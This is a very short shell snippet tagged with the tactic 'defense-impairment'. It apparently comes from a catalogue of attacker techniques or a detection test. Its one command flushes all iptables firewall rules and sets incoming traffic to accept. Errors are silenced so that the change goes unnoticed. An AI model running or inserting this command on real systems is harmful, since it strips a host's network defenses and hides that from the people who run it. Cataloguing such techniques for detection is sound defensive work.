# tactic: defense-impairment
# flush the firewall rules and accept everything
iptables -F 2>/dev/null; iptables -P INPUT ACCEPT 2>/dev/null; true
